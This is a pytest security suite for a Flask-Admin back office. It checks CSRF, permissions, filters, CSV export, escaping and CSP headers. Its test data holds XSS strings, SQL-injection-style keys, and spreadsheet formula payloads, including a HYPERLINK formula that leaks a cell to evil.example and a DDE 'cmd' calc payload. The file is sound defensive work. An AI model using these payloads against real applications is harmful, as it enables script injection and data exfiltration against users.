"""What a stock Flask-Admin gets wrong, one test a trap; and what every page must keep to."""

import csv
import io
import re
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from sqlalchemy import event

from backoffice.audit import trash
from backoffice.audit.models import ChangeSet
from backoffice.catalog.categories import place
from backoffice.catalog.models import Brand, Category, Product, Tag, Variant
from backoffice.extensions import db
from backoffice.inventory.models import Location
from backoffice.staff.models import SignIn, StaffMember
from backoffice.web.attributes import attributes_of
from tests.making import Person, changed, form_values, make_brand, make_category, make_product, stored, text_of
from tests.walking import changed_tables, make_house, make_one, screens_of, snapshot

EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>"""


# The traps of a stock Flask-Admin, in the order in which they are listed.


def test_1_a_deletion_an_action_and_a_cell_need_a_token(app: Flask) -> None:
    owner, brand = Person(app, "owner"), make_brand("Norr")
    before = snapshot()

    answers = [
        owner.post("/admin/brand/delete/", {"id": brand.id}, with_token=False),
        owner.post("/admin/brand/action/", {"action": "delete", "rowid": brand.id}, with_token=False),
        owner.post("/admin/brand/ajax/update/", {"list_form_pk": brand.id, "name": "X"}, with_token=False),
    ]

    assert [answer.status_code for answer in answers] == [400, 400, 400]
    assert changed_tables(before, snapshot()) == []


def test_2_a_cell_is_refused_to_who_may_not_edit_and_so_is_an_action(app: Flask) -> None:
    viewer, brand, product = Person(app, "viewer"), make_brand("Norr"), make_product()
    before = snapshot()

    cell = viewer.edit_cell("brand", brand, "name", "Forged", "Norr", 1)
    price = Person(app, "editor").edit_cell("product", product, "price", "0.01", "12.90", 1)
    action = viewer.post("/admin/product/action/", {"action": "archive", "rowid": product.id})

    assert (cell.status_code, price.status_code, action.status_code) == (403, 403, 403)
    assert {"brand", "product", "variant"}.isdisjoint(changed_tables(before, snapshot()))


@pytest.mark.any_engine
@pytest.mark.parametrize(
    "screen, name", [("brand", "slug"), ("product", "slug"), ("product", "version"), ("staff_member", "password_hash")]
)
def test_2_only_the_columns_that_a_list_edits_in_place_are_edited_in_place(app: Flask, screen: str, name: str) -> None:
    owner = Person(app, "owner")
    record = make_one(app.extensions["screens"][screen].model)
    before = snapshot()

    answer = owner.edit_cell(screen, record, name, "forged", "", 1)

    assert answer.status_code == 403
    assert changed_tables(before, snapshot()) == []


def test_3_a_record_outside_the_list_is_reached_by_no_other_way(app: Flask) -> None:
    owner, product = Person(app, "owner"), make_product("Gone Mug")
    trash.trash(product)
    db.session.commit()
    key, before = product.id, snapshot()

    answers = {
        "edit": owner.get(f"/admin/product/edit/?id={key}"),
        "save": owner.post(f"/admin/product/edit/?id={key}", {"name": "Back"}),
        "details": owner.get(f"/admin/product/details/?id={key}"),
        "history": owner.get(f"/admin/product/history/?id={key}"),
        "cell": owner.edit_cell("product", product, "name", "Back", "Gone Mug", 1),
        "delete": owner.post("/admin/product/delete/", {"id": key}),
        "action": owner.post("/admin/product/action/", {"action": "archive", "rowid": key}),
    }

    # The form of somebody who had it open comes back with what they typed, and saves nothing;
    # a list that still shows it is told that it is gone.
    expected = dict.fromkeys(answers, 404) | {"save": 422, "action": 409, "history": 200}
    assert {name: answer.status_code for name, answer in answers.items()} == expected
    assert changed_tables(before, snapshot()) == []


@pytest.mark.any_engine
@pytest.mark.parametrize(
    "address",
    [
        "/admin/staff_member/?password_hash=$argon2",
        "/admin/staff_member/?password_hash__not=x",
        "/admin/staff_member/?role__name=owner",
        "/admin/sign_in/?staff_member__password_hash=$a",
        "/admin/sign_in/?staff_member__email=a",
        "/admin/sign_in/?token_hash=a",
        "/admin/product/?brand__name=Norr",
        "/admin/product/?deleted_token=0",
        "/admin/product/?version=1",
        "/admin/product/?flt0_0=x",
        "/admin/product/?name__like=x",
        "/admin/product/?name__from=a",
        "/admin/product/?status__empty=1",
    ],
)
def test_4_a_list_is_filtered_only_by_what_its_screen_names(app: Flask, address: str) -> None:
    owner = Person(app, "owner")
    make_product("Named Mug")

    listed, exported = owner.get(address), owner.get(address.replace("/?", "/export/csv/?"))

    assert listed.status_code == 400
    assert "has no filter" in text_of(listed)
    assert exported.status_code in (400, 403)
    assert "Named Mug" not in listed.text + exported.text


@pytest.mark.parametrize("screen, column", [("staff_member", "password_hash"), ("sign_in", "token_hash")])
def test_4_a_secret_is_no_attribute_of_any_screen(app: Flask, screen: str, column: str) -> None:
    model = app.extensions["screens"][screen].model

    assert column not in attributes_of(model)
    answer = Person(app, "owner").get(f"/admin/{screen}/?columns={column}&sort={column}")
    assert answer.status_code == 400


@pytest.mark.any_engine
@pytest.mark.parametrize("limit", ["1000000", "-1", "0", "9" * 30, "abc"])
def test_5_a_lookup_gives_few_rows_whatever_is_asked(app: Flask, limit: str) -> None:
    viewer = Person(app, "viewer")
    db.session.add_all([Tag(name=f"Tag {number}", slug=f"tag-{number}") for number in range(40)])
    db.session.commit()

    answer = viewer.get(f"/admin/product/ajax/lookup/?name=tags&limit={limit}&offset={limit}")

    assert answer.status_code == 200
    assert len(answer.json) <= 20


def test_5_a_lookup_gives_nothing_of_the_trash_and_no_unlisted_relation(app: Flask) -> None:
    viewer, brand = Person(app, "viewer"), make_brand("Gone Brand")
    make_brand("Norr")
    trash.trash(brand)
    db.session.commit()

    answer = viewer.get("/admin/product/ajax/lookup/?name=brand")

    assert [name for _, name in answer.json] == ["Norr"]
    for name in ("variants", "options", "name", "__class__", "", "brand.products"):
        assert viewer.get(f"/admin/product/ajax/lookup/?name={name}").status_code == 404, name


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.mark.any_engine
@pytest.mark.parametrize("name", FORMULAS)
def test_6_an_export_holds_nothing_that_a_spreadsheet_runs(app: Flask, name: str) -> None:
    owner = Person(app, "owner")
    db.session.add(Brand(name=name, slug="formula"))
    db.session.commit()

    answer = owner.get("/admin/brand/export/csv/")

    [_, row] = csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")))
    assert row[0] == f"'{name}"


def test_6_an_export_is_sent_bit_by_bit(app: Flask) -> None:
    owner = Person(app, "owner")
    db.session.add_all([Brand(name=f"Brand {number}", slug=f"brand-{number}") for number in range(1100)])
    db.session.commit()
    statements: list[str] = []
    listener = note_statements(statements)

    answer = owner.get("/admin/brand/export/csv/")

    event.remove(db.engine, "before_cursor_execute", listener)
    assert len(list(csv.reader(io.StringIO(answer.text)))) == 1101
    assert sum("FROM brand" in statement and "brand.id IN (" in statement for statement in statements) >= 3


def note_statements(statements: list[str]) -> Any:
    @event.listens_for(db.engine, "before_cursor_execute")
    def note(_connection: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
        statements.append(statement)

    return note


SQL_WORDS = re.compile(
    r"INSERT INTO|UPDATE \w+ SET|SELECT .* FROM|sqlalche|psycopg|pymysql|IntegrityError|UNIQUE|uq_\w|Traceback"
)


def test_7_a_broken_constraint_comes_as_a_sentence_without_sql(app: Flask) -> None:
    owner = Person(app, "owner")
    make_brand("Norr")
    product = make_product(skus=["MUG-1"])
    other = make_product(skus=["MUG-2"])
    answers = [
        owner.save("/admin/brand/new/", name="Norr", slug="norr"),
        owner.save(f"/admin/product/edit/?id={other.id}", slug=product.slug),
        owner.save(f"/admin/product/edit/?id={other.id}", **{"variants-0-sku": "MUG-1"}),
        owner.edit_cell("variant", other.variants[0], "sku", "MUG-1", "MUG-2", other.variants[0].version),
        owner.save("/admin/location/new/", name="Main", code=stored(Location)[0].code if stored(Location) else "x"),
    ]

    refused = [answer for answer in answers if answer.status_code == 422]
    assert len(refused) >= 4
    for answer in refused:
        assert "In use by" in answer.text
        assert not SQL_WORDS.search(answer.text), answer.text


def test_7_a_fault_shows_a_reference_and_nothing_of_what_broke(app: Flask, caplog: pytest.LogCaptureFixture) -> None:
    owner = Person(app, "owner")
    with db.engine.begin() as connection:
        connection.exec_driver_sql("ALTER TABLE price_change RENAME TO price_change_away")
    try:
        answer = owner.get("/admin/price_change/")
    finally:
        with db.engine.begin() as connection:
            connection.exec_driver_sql("ALTER TABLE price_change_away RENAME TO price_change")

    assert answer.status_code == 500
    reference = BeautifulSoup(answer.text, "html.parser").select_one(".code").text
    assert reference in caplog.text
    assert "price_change" not in text_of(answer)
    assert not SQL_WORDS.search(answer.text)


def test_8_what_somebody_else_saved_meanwhile_is_not_overwritten(app: Flask) -> None:
    brand = make_brand("Norr")
    ann, ben = Person(app, "editor"), Person(app, "editor")
    path = f"/admin/brand/edit/?id={brand.id}"
    anns, bens = ann.form(path), ben.form(path)

    first = ann.post(path, changed(anns, {"name": "Norr of Ann"}), with_token=False)
    second = ben.post(path, changed(bens, {"name": "Norr of Ben"}), with_token=False)

    assert (first.status_code, second.status_code) == (302, 409)
    assert stored(Brand)[0].name == "Norr of Ann"


def test_9_labels_that_staff_write_reach_no_script(app: Flask) -> None:
    """Options are what staff name; their names head columns, stand in aria-labels and in lists to choose from."""
    owner = Person(app, "owner")
    answer = owner.save(
        "/admin/product/new/",
        name=EVIL,
        **{"option-1": EVIL[:60], "variants-new0-value-1": EVIL, "variants-new0-sku": EVIL[:64]},
    )

    page = owner.get(answer.location)

    assert page.status_code == 200
    assert_harmless(page.text, answer.location)
    assert BeautifulSoup(page.text, "html.parser").select_one("#option-1")["value"] == EVIL[:60]


@pytest.mark.any_engine
@pytest.mark.parametrize("key", ["abc", "1,2", "1,", "-1", "0", "1.0", " 1", "１", "9" * 30, "", "1 OR 1=1", "1'"])
def test_10_a_key_that_is_none_is_not_found(app: Flask, key: str) -> None:
    owner = Person(app, "owner")
    make_product()
    before = snapshot()

    answers = [
        owner.get("/admin/product/edit/", query_string={"id": key}),
        owner.get("/admin/product/details/", query_string={"id": key}),
        owner.get("/admin/change_set/details/", query_string={"id": key}),
        owner.post("/admin/product/delete/", {"id": key}),
        owner.post("/admin/product/ajax/update/", {"list_form_pk": key, "name": "x"}),
        owner.post("/admin/product/action/", {"action": "archive", "rowid": key}),
        owner.post("/admin/change_set/undo/", {"id": key}),
        owner.post("/admin/trash/restore/", {"kind": "product", "id": key}),
    ]

    assert [answer.status_code for answer in answers] == [404] * len(answers)
    assert changed_tables(before, snapshot()) == []


@pytest.mark.any_engine
@pytest.mark.parametrize("typed", ["-1", "12.505", "NaN", "Infinity", "1e5", "9" * 30])
def test_11_a_price_that_is_none_is_refused_at_its_field(app: Flask, typed: str) -> None:
    owner = Person(app, "owner")
    product = make_product(prices=(1290,))

    answer = owner.save(f"/admin/product/edit/?id={product.id}", **{"variants-0-price": typed})

    assert answer.status_code == 422
    page = BeautifulSoup(answer.text, "html.parser")
    assert page.select_one("#variants-0-price-error") is not None
    assert page.select_one("#variants-0-price")["value"] == typed
    assert stored(Variant)[0].price_minor == 1290


def test_12_signing_out_is_no_link(app: Flask) -> None:
    viewer = Person(app, "viewer")

    page = viewer.page("/admin/")

    assert page.select("a[href*=logout]") == []
    assert page.select_one("form[action='/logout'][method=post] input[name=csrf_token]") is not None
    assert viewer.get("/logout").status_code == 405


def test_12_a_category_is_never_put_below_itself(app: Flask) -> None:
    owner = Person(app, "owner")
    top = make_category("Top")
    below = make_category("Below", top)
    deepest = make_category("Deepest", below)
    place(deepest)
    db.session.commit()

    answers = [
        owner.save(f"/admin/category/edit/?id={top.id}", parent=str(parent.id)) for parent in (top, below, deepest)
    ]

    assert [answer.status_code for answer in answers] == [422, 422, 422]
    for answer in answers:
        error = BeautifulSoup(answer.text, "html.parser").select_one("#parent-error")
        assert "lies within “Top” itself" in error.text
    assert stored(Category)[0].parent_id is None


# What a stock Flask-Admin does well, and must stay so.


def test_a_field_that_the_form_does_not_show_is_never_written(app: Flask) -> None:
    owner, brand = Person(app, "owner"), make_brand("Norr")

    owner.save(f"/admin/brand/edit/?id={brand.id}", name="Norr 2", deleted_token="7", version="1", id="99")
    owner.save(
        f"/admin/staff_member/edit/?id={owner.member_id}", name="Olga", password_hash="forged", created_at="2000-01-01"
    )

    [brand] = stored(Brand)
    assert (brand.name, brand.deleted_token) == ("Norr 2", 0)
    assert stored(StaffMember, id=owner.member_id)[0].password_hash.startswith("$argon2id$")


def test_a_role_changes_by_no_form_of_its_own_rights(app: Flask) -> None:
    owner = Person(app, "owner")
    role = stored(StaffMember)[0].role

    owner.save(f"/admin/role/edit/?id={role.id}", description="Everything.", name="king", permissions="1")

    assert stored(StaffMember)[0].role.name == "owner"


# Content-Security-Policy and headers


def pages_of(app: Flask, person: Person, house: dict[str, Any]) -> dict[str, str]:
    """Every page that answers a GET with HTML, by address, with a record where it takes one."""
    addresses = ["/account", "/login", "/admin/no_such_page/"]
    for rule in app.url_map.iter_rules():
        if "GET" in rule.methods and rule.rule.startswith("/admin/") and not rule.arguments:
            addresses.append(rule.rule)
            if rule.endpoint.rpartition(".")[2] in ("edit_view", "details_view", "history_view", "delete_view"):
                addresses.append(f"{rule.rule}?id={house[rule.endpoint.partition('.')[0]].id}")
            if rule.endpoint.endswith(".index_view"):
                addresses.append(f"{rule.rule}?search=zzz&page=9")
                addresses.append(f"{rule.rule}?sort=junk")
    for model in trash.trashable_models():
        kind = model.__tablename__
        addresses += [f"/admin/trash/?kind={kind}", f"/admin/trash/empty/?kind={kind}"]
        gone = db.session.scalars(db.select(model.id).where(model.deleted_token != 0))
        addresses += [f"/admin/trash/delete/?kind={kind}&id={key}" for key in gone]
    answers = {address: person.get(address) for address in addresses}
    return {address: answer.text for address, answer in answers.items() if answer.mimetype == "text/html"}


def assert_harmless(html: str, address: str) -> None:
    """No script, style or handler within the page: the policy forbids them, and data must never become one."""
    page = BeautifulSoup(html, "html.parser")
    assert [script for script in page.select("script") if not script.get("src") or script.string] == [], address
    assert page.select("style, iframe, object, embed, base, meta[http-equiv]") == [], address
    assert page.select("img[src=x]") == [], address
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), f"{address}: {tag.name} has {name}"
            assert name.lower() not in ("style", "srcdoc"), f"{address}: {tag.name} has {name}"
            if name in ("href", "src", "action", "formaction"):
                scheme = str(value).strip().lower().split(":")[0] if ":" in str(value).split("/")[0] else ""
                assert scheme in ("", "https", "http", "data"), f"{address}: {tag.name} leads to {value}"
                assert not (name == "src" and str(value).startswith(("http", "//"))), f"{address} loads {value}"


@pytest.mark.any_engine
def test_no_page_of_any_screen_holds_a_script_a_style_or_a_handler(app: Flask) -> None:
    house = make_house(app)
    house["product"] = make_product(prices=(1000, 1200))
    owner = Person(app, "owner")

    pages = pages_of(app, owner, house)

    assert len(pages) > 4 * len(screens_of(app))
    for address, html in pages.items():
        assert_harmless(html, address)


@pytest.mark.any_engine
def test_every_answer_carries_the_policy_and_its_companions(app: Flask) -> None:
    house = make_house(app)
    owner, visitor = Person(app, "owner"), Person(app, None)
    answers = [
        visitor.get("/login"),
        visitor.get("/admin/"),
        visitor.get("/healthz"),
        visitor.get("/static/css/app.css"),
        visitor.get("/bootstrap/static/css/bootstrap.min.css"),
        visitor.post("/login", {"email": "x", "password": "y"}),
        visitor.post("/login", with_token=False),
        owner.get("/admin/product/"),
        owner.get("/admin/product/?sort=junk"),
        owner.get("/admin/product/edit/?id=99"),
        owner.get(f"/admin/product/edit/?id={house['product'].id}"),
        owner.get("/admin/product/ajax/lookup/?name=brand"),
        owner.get("/admin/product/export/csv/"),
        owner.get(f"/media/full/{house['picture'].checksum}.webp"),
        owner.post("/admin/product/action/", {"action": "unknown"}),
    ]

    for answer in answers:
        where = f"{answer.request.path} {answer.status_code}"
        policy = dict(part.split(" ", 1) for part in answer.headers["Content-Security-Policy"].split("; "))
        assert policy["default-src"] == "'none'", where
        assert policy["frame-ancestors"] == "'none'" and policy["base-uri"] == "'none'", where
        assert "unsafe" not in answer.headers["Content-Security-Policy"], where
        assert policy["script-src"] == policy["style-src"] == policy["form-action"] == "'self'", where
        assert answer.headers["X-Content-Type-Options"] == "nosniff", where
        assert answer.headers["X-Frame-Options"] == "DENY", where
        assert answer.headers["Referrer-Policy"] == "same-origin", where


@pytest.mark.any_engine
def test_what_is_private_is_kept_by_no_cache_on_the_way(app: Flask) -> None:
    house = make_house(app)
    owner = Person(app, "owner")

    page = owner.get("/admin/product/")
    picture = owner.get(f"/media/full/{house['picture'].checksum}.webp")

    assert page.headers["Cache-Control"] == "no-store"
    assert "private" in picture.headers["Cache-Control"]


# Escaping


@pytest.fixture
def evil_house(app: Flask) -> dict[str, Any]:
    """A house where all that a person may type is made of markup."""
    house = make_house(app)
    category = make_category("Plain")
    category.name = category.description = EVIL
    place(category)
    house["category"] = category
    house["brand"].name = house["brand"].description = house["tag"].name = house["tax_class"].name = EVIL
    house["location"].name = house["location"].code = EVIL[:40]
    house["picture"].alt_text = EVIL
    house["staff_member"].name = EVIL
    house["settings"].shop_name = EVIL
    house["role"].name, house["role"].description = EVIL, EVIL
    house["sign_in"].browser = EVIL
    house["slug_redirect"].old_slug = EVIL
    product = make_product(EVIL, prices=(1000, 1200), slug="evil", skus=[EVIL[:64], "OTHER"])
    product.brand, product.category, product.tax_class = house["brand"], category, house["tax_class"]
    product.tags, product.categories = [house["tag"]], [category]
    product.seo_title = product.seo_description = product.description = EVIL
    product.options[0].name = EVIL[:60]
    product.options[0].values[0].name = EVIL
    product.variants[0].barcode = EVIL[:32]
    house["product"], house["variant"] = product, product.variants[0]
    db.session.commit()
    for name in ("brand", "tag", "product"):
        again = make_one(type(house[name]))
        again.name = EVIL
        db.session.commit()
        trash.trash(again)
        db.session.commit()
    return house


def test_a_name_made_of_markup_is_shown_as_it_is_on_every_page(app: Flask, evil_house: dict[str, Any]) -> None:
    owner = Person(app, "owner")

    pages = pages_of(app, owner, evil_house)

    assert sum("alert(1)" in html for html in pages.values()) > 30
    for address, html in pages.items():
        assert_harmless(html, address)
        assert "<script>alert" not in html and "<img src=x" not in html, address


def test_a_name_made_of_markup_stays_text_in_answers_for_scripts(app: Flask, evil_house: dict[str, Any]) -> None:
    owner, brand = Person(app, "owner"), evil_house["brand"]

    found = owner.get("/admin/product/ajax/lookup/?name=brand")
    cell = owner.edit_cell("brand", brand, "name", f"{EVIL}2", EVIL, brand.version)

    assert found.mimetype == cell.mimetype == "application/json"
    assert [brand.id, EVIL] in found.json
    assert cell.status_code == 200, cell.text
    assert_harmless(cell.json["shown"], "shown")
    assert "<script" not in cell.json["shown"]


def test_every_cell_answers_with_escaped_html(app: Flask, evil_house: dict[str, Any]) -> None:
    owner = Person(app, "owner")

    product = evil_house["product"]
    name = owner.edit_cell("product", product, "name", f"{EVIL}!", EVIL, product.version)
    variant = evil_house["variant"]
    price = owner.edit_cell("variant", variant, "price", "11.00", "10.00", variant.version)
    wrong = owner.edit_cell("variant", variant, "price", EVIL, "11.00", variant.version)

    for answer in (name, price):
        assert answer.status_code == 200, answer.text
        assert_harmless(answer.json["shown"], "shown")
    assert wrong.status_code == 422


def test_notes_and_sentences_that_quote_a_name_are_escaped(app: Flask, evil_house: dict[str, Any]) -> None:
    owner, brand = Person(app, "owner"), evil_house["brand"]
    twin = make_one(Brand)

    in_use = owner.post("/admin/brand/delete/", {"id": brand.id, "version": brand.version})
    deleted = owner.post("/admin/brand/delete/", {"id": twin.id, "version": twin.version}, follow_redirects=True)
    clash = owner.save("/admin/brand/new/", name="X", slug=brand.slug)
    unheard = owner.get("/admin/product/", query_string={EVIL: EVIL})
    searched = owner.get("/admin/product/", query_string={"search": EVIL, "name": EVIL})
    saved = owner.save(f"/admin/tag/edit/?id={evil_house['tag'].id}", name=f"{EVIL}3")
    noted = owner.get(saved.location)
    signed_in = Person(app, None).post("/login", {"email": EVIL, "password": "x", "next": EVIL})

    answers = [in_use, deleted, clash, unheard, searched, noted, signed_in]
    assert [answer.status_code for answer in answers] == [422, 200, 422, 400, 200, 200, 401]
    for answer in answers:
        assert_harmless(answer.text, answer.request.path)
        assert "<script>alert" not in answer.text
    assert EVIL in BeautifulSoup(in_use.text, "html.parser").text
    assert f"{EVIL}3 is saved." in BeautifulSoup(noted.text, "html.parser").text


def test_a_conflict_shows_markup_as_text(app: Flask) -> None:
    brand = make_brand("Norr")
    ann, ben = Person(app, "editor"), Person(app, "editor")
    path = f"/admin/brand/edit/?id={brand.id}"
    bens = ben.form(path)
    ann.save(path, name=EVIL)

    answer = ben.post(path, changed(bens, {"name": f"{EVIL} of Ben"}), with_token=False)

    assert answer.status_code == 409
    assert_harmless(answer.text, path)
    form = BeautifulSoup(answer.text, "html.parser").select_one("form[data-record-form]")
    assert form_values(form)["name"] == f"{EVIL} of Ben"


@pytest.mark.any_engine
@pytest.mark.parametrize(
    "typed, kept",
    [
        ("<p>Good <b>mug</b></p>", "<p>Good <b>mug</b></p>"),
        ("<p onclick=alert(1)>Hi</p>", "<p>Hi</p>"),
        ("<script>alert(1)</script>Hi", "Hi"),
        ("<img src=x onerror=alert(1)>Hi", "Hi"),
        ("<style>p{}</style><p style='color:red'>Hi</p>", "<p>Hi</p>"),
        ("<iframe src=//evil.example></iframe>Hi", "Hi"),
        ("<svg><script>alert(1)</script></svg>Hi", "Hi"),
    ],
)
def test_a_description_keeps_only_what_forms_its_text(app: Flask, typed: str, kept: str) -> None:
    editor, product = Person(app, "editor"), make_product()

    answer = editor.save(f"/admin/product/edit/?id={product.id}", description=typed)

    assert answer.status_code == 302, text_of(answer)
    assert stored(Product)[0].description == kept


def test_a_link_in_a_description_leads_by_no_script(app: Flask) -> None:
    editor, product = Person(app, "editor"), make_product()

    editor.save(f"/admin/product/edit/?id={product.id}", description="<a href='javascript:alert(1)'>Go</a>")

    assert "javascript" not in stored(Product)[0].description


def test_no_token_of_a_sign_in_is_shown_anywhere(app: Flask) -> None:
    house = make_house(app)
    owner = Person(app, "owner")
    hashes = [row.token_hash for row in stored(SignIn)]

    pages = pages_of(app, owner, house)

    assert not [address for address, html in pages.items() for one in hashes if one in html]
    assert not [address for address, html in pages.items() if "$argon2" in html]
    assert not [one for one in stored(ChangeSet) if any(token in repr(vars(one)) for token in hashes)]
